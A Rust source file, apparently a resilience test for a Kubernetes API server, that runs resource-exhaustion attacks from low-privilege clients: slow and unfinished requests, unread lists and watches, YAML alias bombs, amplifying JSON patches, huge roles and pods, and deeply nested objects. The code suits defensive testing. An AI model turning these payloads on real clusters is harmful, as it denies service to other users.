@@ -1,0 +1,279 @@
+//! What a hostile client can do with what it is allowed to: one function an attack, each of which goes on until it is dropped.
+//!
+//! The attackers have a token each and the rights of a developer in a namespace of their own, or none at all. What their requests
+//! are answered with does not matter; what others see meanwhile does.
+
+use std::convert::Infallible;
+use std::time::Duration;
+
+use anyhow::Result;
+use bytes::Bytes;
+use futures::future::{BoxFuture, FutureExt};
+use futures::stream::{self, FuturesUnordered, StreamExt};
+use http_body_util::StreamBody;
+use hyper::Request;
+use hyper::body::Frame;
+use hyper::client::conn::http2;
+use hyper_util::rt::{TokioExecutor, TokioIo};
+use serde_json::{Value, json};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::time::sleep;
+
+use crate::http::Endpoint;
+
+/// An attack that goes on until it is dropped.
+pub type Attack = BoxFuture<'static, ()>;
+
+/// How long an attacker rests when it was turned away.
+const REST: Duration = Duration::from_millis(20);
+
+/// Where the attackers' objects are.
+pub const NAMESPACE: &str = "attacked";
+
+/// All attacks at once.
+///
+/// - `nobody`: a user without any rights.
+/// - `developer`: a user who may do everything in [`NAMESPACE`].
+pub fn all(nobody: &Endpoint, developer: &Endpoint) -> Vec<(&'static str, Attack)> {
+    vec![
+        ("silent connections", silent_connections(nobody.clone()).boxed()),
+        ("unfinished bodies over HTTP/1.1", unfinished_bodies(nobody.clone(), 600).boxed()),
+        ("unfinished bodies over HTTP/2", unfinished_bodies_http2(nobody.clone(), 4).boxed()),
+        ("large bodies", large_bodies(nobody.clone()).boxed()),
+        ("lists that nobody reads", unread_lists(developer.clone()).boxed()),
+        ("watches that nobody reads", unread_watches(developer.clone()).boxed()),
+        ("YAML aliases", requests(developer.clone(), 2, yaml_aliases).boxed()),
+        ("JSON patches that double", requests(developer.clone(), 2, doubling_patch).boxed()),
+        ("JSON patches that insert", requests(developer.clone(), 2, inserting_patch).boxed()),
+        ("roles multiplied out", requests(developer.clone(), 2, wide_role).boxed()),
+        ("pods of many containers", requests(developer.clone(), 2, crowded_pod).boxed()),
+        ("deep objects", requests(developer.clone(), 2, deep_object).boxed()),
+        ("objects that grow", requests(developer.clone(), 2, growing_object).boxed()),
+    ]
+}
+
+/// Keeps so many of something under way, each begun anew when it ends.
+async fn keep<F: Future<Output = Result<()>>>(many: usize, begin: impl Fn() -> F) {
+    let again = async |rest: bool| {
+        if rest {
+            sleep(REST).await;
+        }
+        // What it is answered with does not matter.
+        let _ = begin().await;
+    };
+    let mut under_way: FuturesUnordered<_> = (0..many).map(|_| again(false)).collect();
+    while under_way.next().await.is_some() {
+        under_way.push(again(true));
+    }
+}
+
+/// Connections that say nothing: half of them not even in TLS.
+async fn silent_connections(endpoint: Endpoint) {
+    let plain = keep(150, || async {
+        let mut socket = endpoint.socket().await?;
+        socket.read_u8().await?;
+        Ok(())
+    });
+    let tls = keep(150, || async {
+        let mut stream = endpoint.tls(b"h2").await?;
+        stream.read_u8().await?;
+        Ok(())
+    });
+    tokio::join!(plain, tls);
+}
+
+const REVIEWS: &str = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
+
+/// The head of a request over HTTP/1.1.
+fn head(endpoint: &Endpoint, method: &str, path: &str, more: &str) -> String {
+    let token = endpoint.authorization().and_then(|value| value.to_str().ok()).unwrap_or_default();
+    format!("{method} {path} HTTP/1.1\r\nhost: attacked\r\nauthorization: {token}\r\n{more}\r\n")
+}
+
+async fn unfinished_bodies(endpoint: Endpoint, many: usize) {
+    keep(many, || async {
+        let mut stream = endpoint.tls(b"http/1.1").await?;
+        let head =
+            head(&endpoint, "POST", REVIEWS, "content-type: application/json\r\ncontent-length: 1000\r\n");
+        stream.write_all(head.as_bytes()).await?;
+        stream.write_all(b"{").await?;
+        let mut answer = Vec::new();
+        stream.read_to_end(&mut answer).await?;
+        Ok(())
+    })
+    .await;
+}
+
+/// A body of which only the beginning comes.
+type Unfinished = StreamBody<stream::BoxStream<'static, Result<Frame<Bytes>, Infallible>>>;
+
+fn unfinished(begin: Bytes) -> Unfinished {
+    let begin = stream::once(async { Ok(Frame::data(begin)) });
+    StreamBody::new(begin.chain(stream::pending()).boxed())
+}
+
+async fn unfinished_bodies_http2(endpoint: Endpoint, connections: usize) {
+    keep(connections, || async {
+        let io = TokioIo::new(endpoint.tls(b"h2").await?);
+        let (sender, connection) = http2::handshake(TokioExecutor::new(), io).await?;
+        let requests = keep(240, || async {
+            let mut sender = sender.clone();
+            let mut request =
+                Request::post(format!("https://attacked{REVIEWS}")).body(unfinished("{".into()))?;
+            if let Some(token) = endpoint.authorization() {
+                request.headers_mut().insert("authorization", token.clone());
+            }
+            sender.ready().await?;
+            sender.send_request(request).await?;
+            Ok(())
+        });
+        tokio::select! {
+            ended = connection => Ok(ended?),
+            () = requests => Ok(()),
+        }
+    })
+    .await;
+}
+
+/// Bodies of nearly 3 MB that come whole but for their last byte.
+async fn large_bodies(endpoint: Endpoint) {
+    let most = Bytes::from(vec![b' '; (3 << 20) - 10]);
+    keep(40, || async {
+        let mut stream = endpoint.tls(b"http/1.1").await?;
+        let more = format!("content-type: application/json\r\ncontent-length: {}\r\n", most.len() + 1);
+        stream.write_all(head(&endpoint, "POST", REVIEWS, &more).as_bytes()).await?;
+        stream.write_all(&most).await?;
+        let mut answer = Vec::new();
+        stream.read_to_end(&mut answer).await?;
+        Ok(())
+    })
+    .await;
+}
+
+fn config_maps() -> String {
+    format!("/api/v1/namespaces/{NAMESPACE}/configmaps")
+}
+
+async fn unread(endpoint: &Endpoint, path: &str, accept: &str) -> Result<()> {
+    let mut stream = endpoint.tls(b"http/1.1").await?;
+    let head = head(endpoint, "GET", path, &format!("accept: {accept}\r\n"));
+    stream.write_all(head.as_bytes()).await?;
+    // Reads a byte, to know that the answer began, and nothing any more.
+    stream.read_u8().await?;
+    sleep(Duration::from_secs(90)).await;
+    Ok(())
+}
+
+async fn unread_lists(endpoint: Endpoint) {
+    let path = config_maps();
+    let (pretty, plain) = (format!("{path}?pretty=1"), path.as_str());
+    let list = |path: &str, accept: &'static str| {
+        let (endpoint, path) = (endpoint.clone(), path.to_owned());
+        async move { keep(15, || unread(&endpoint, &path, accept)).await }
+    };
+    tokio::join!(
+        list(plain, "application/json"),
+        list(&pretty, "application/json"),
+        list(plain, "application/yaml"),
+        list(plain, "application/vnd.kubernetes.protobuf"),
+        list(plain, "application/json;as=Table;v=v1;g=meta.k8s.io"),
+    );
+}
+
+async fn unread_watches(endpoint: Endpoint) {
+    let path = format!("{}?watch=1", config_maps());
+    keep(40, || unread(&endpoint, &path, "application/json")).await;
+}
+
+/// What a request sends: method, path, Content-Type, body.
+type Hostile = (&'static str, String, &'static str, Bytes);
+
+/// Sends a request again and again, over so many connections.
+async fn requests(endpoint: Endpoint, connections: usize, make: fn() -> Vec<Hostile>) {
+    let requests = make();
+    keep(connections, || async {
+        let mut connection = endpoint.connect().await?;
+        for (method, path, content_type, body) in requests.iter().cycle() {
+            connection
+                .call(method, path, &[("content-type", Some(content_type))], Some(body.clone()))
+                .await?;
+            sleep(REST).await;
+        }
+        Ok(())
+    })
+    .await;
+}
+
+const JSON: &str = "application/json";
+const JSON_PATCH: &str = "application/json-patch+json";
+
+fn text(value: &Value) -> Bytes {
+    value.to_string().into()
+}
+
+fn yaml_aliases() -> Vec<Hostile> {
+    let aliases = "- *a\n".repeat(30_000);
+    let body = format!(
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: aliases}}\nx: &a {}\ny:\n{aliases}",
+        "x".repeat(20_000)
+    );
+    vec![("POST", config_maps(), "application/yaml", body.into())]
+}
+
+fn config_map(name: &str, data: Value) -> Hostile {
+    ("POST", config_maps(), JSON, text(&json!({"metadata": {"name": name}, "data": data})))
+}
+
+fn doubling_patch() -> Vec<Hostile> {
+    let mut operations =
+        vec![json!({"op": "add", "path": "/metadata/annotations", "value": {"a": {"b": "x".repeat(1000)}}})];
+    for _ in 0..40 {
+        operations.push(
+            json!({"op": "copy", "from": "/metadata/annotations", "path": "/metadata/annotations/a/b"}),
+        );
+    }
+    let path = format!("{}/doubled", config_maps());
+    vec![config_map("doubled", json!({})), ("PATCH", path, JSON_PATCH, text(&operations.into()))]
+}
+
+fn inserting_patch() -> Vec<Hostile> {
+    let insert = json!({"op": "add", "path": "/metadata/finalizers/0", "value": "example.com/x"});
+    let many: Vec<Value> = (0..20_000).map(|i| json!(format!("example.com/f{i}"))).collect();
+    let mut operations = vec![json!({"op": "add", "path": "/metadata/finalizers", "value": many})];
+    operations.extend(std::iter::repeat_n(insert, 9_000));
+    let path = format!("{}/inserted", config_maps());
+    vec![config_map("inserted", json!({})), ("PATCH", path, JSON_PATCH, text(&operations.into()))]
+}
+
+fn wide_role() -> Vec<Hostile> {
+    let sixty = |prefix: &str| (0..60).map(|i| format!("{prefix}{i}")).collect::<Vec<_>>();
+    let rule = json!({
+        "apiGroups": sixty("g"), "resources": sixty("r"), "verbs": sixty("v"), "resourceNames": sixty("n"),
+    });
+    let role = json!({"metadata": {"name": "wide"}, "rules": [rule]});
+    let path = format!("/apis/rbac.authorization.k8s.io/v1/namespaces/{NAMESPACE}/roles");
+    vec![("POST", path, JSON, text(&role))]
+}
+
+fn crowded_pod() -> Vec<Hostile> {
+    let containers = vec![json!({}); 60_000];
+    let pod = json!({"metadata": {"name": "crowded"}, "spec": {"containers": containers}});
+    vec![("POST", format!("/api/v1/namespaces/{NAMESPACE}/pods"), JSON, text(&pod))]
+}
+
+fn deep_object() -> Vec<Hostile> {
+    let deep = "{\"a\":".repeat(100_000) + "1" + &"}".repeat(100_000);
+    let body = format!("{{\"metadata\":{{\"name\":\"deep\"}},\"data\":{deep}}}");
+    let revision = format!("{{\"metadata\":{{\"name\":\"deep\"}},\"revision\":1,\"data\":{deep}}}");
+    let revisions = format!("/apis/apps/v1/namespaces/{NAMESPACE}/controllerrevisions");
+    vec![("POST", config_maps(), JSON, body.into()), ("POST", revisions, JSON, revision.into())]
+}
+
+fn growing_object() -> Vec<Hostile> {
+    let path = format!("{}/growing", config_maps());
+    let grow = (0..20).map(|i| {
+        let add = json!([{"op": "add", "path": format!("/data/k{i}"), "value": "x".repeat(500_000)}]);
+        ("PATCH", path.clone(), JSON_PATCH, text(&add))
+    });
+    [config_map("growing", json!({}))].into_iter().chain(grow).collect()
+}
